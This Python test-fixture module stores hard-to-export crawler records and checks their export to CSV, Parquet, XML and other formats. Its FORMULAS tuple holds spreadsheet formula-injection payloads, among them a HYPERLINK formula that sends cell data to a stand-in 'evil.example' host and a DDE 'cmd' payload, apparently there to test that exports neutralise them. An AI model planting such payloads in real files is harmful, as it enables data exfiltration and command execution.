"""Records that are hard to export, as the store may hold them, and their exports."""

from __future__ import annotations

import random
from base64 import b64encode
from dataclasses import replace
from typing import TYPE_CHECKING, Any

from crawler.export.exporting import Export
from crawler.export.selection import Selection
from crawler.items import ArchivedPage, Image
from tests.storage.records import NOON, numbered, put

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from sqlalchemy.engine import Engine

    from crawler.items import Record

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1", "\ufeff=1+1", "|calc", "%0",
    '=HYPERLINK("http://evil.example/?"&A1,"Read on")', "=cmd|' /C calc'!A0",
)  # fmt: skip
BARE: dict[str, Any] = dict.fromkeys(("published", "published_raw", "source", "editor", "section", "language"))
PAGES = (ArchivedPage("data/archive/a.warc.gz", 512, "sha1:ABC"), ArchivedPage("data/archive/b.warc.gz", 9, None))
_NUMBERS = random.Random(1)  # noqa: S311  # the same in each run
LONG = "\n\n".join(f'A "sentence", one; {b64encode(_NUMBERS.randbytes(33)).decode()}.' for _ in range(1500))
"""A text that is long compressed too."""
RECORDS = (
    numbered(1, pages=PAGES, language_score=0.875, confidence=0.1),
    numbered(2, **BARE, title=None, authors=(), images=(), removed=(), incomplete="page 2 is gone"),
    numbered(
        3, published="2015-02-11T09:30:00", title="A \"quoted\", <b>bold</b> & 'single' headline\nof two lines 🚢"
    ),
    numbered(4, text=LONG, images=(Image("https://e.example/?a=1&b=2", None),)),
    numbered(
        5, text="港口周一开放。\n\nकिसान, U.S. don't 3.5 🚢 well-known ]]> \u200b", language="zh", section="a\tb|c"
    ),
    numbered(6, text="Old \x1b[31m text \x7f of \u202e bytes \x85.", editor="Li\x0bYan"),
    *(numbered(number, title=text, source=text, authors=(text,)) for number, text in enumerate(FORMULAS, 7)),
)
"""Without NUL, which PostgreSQL does not store."""
FILES = ("a.jsonl", "a.csv", "a.parquet", "a.md", "a.txt", "a.xml", "a.vrt", "a.sqlite")
FOLDERS = ("markdown", "txt", "tei")


def store(engine: Engine) -> list[Record]:
    """Store the records; return them as an export has them, in its order."""
    for one in RECORDS:
        put(engine, one)
    order = sorted(RECORDS, key=lambda one: (one.published is None, one.published or "", one.document_id))
    return [replace(one, stored_at=NOON.isoformat()) for one in order]


def export(engine: Engine, target: Path | str, **selected: Any) -> None:
    """Export to a target, without a progress bar."""
    Export(str(target)).run(engine, Selection(**selected), _unwatched)


def _unwatched(records: Iterator[Record], _: int) -> Iterator[Record]:
    return records
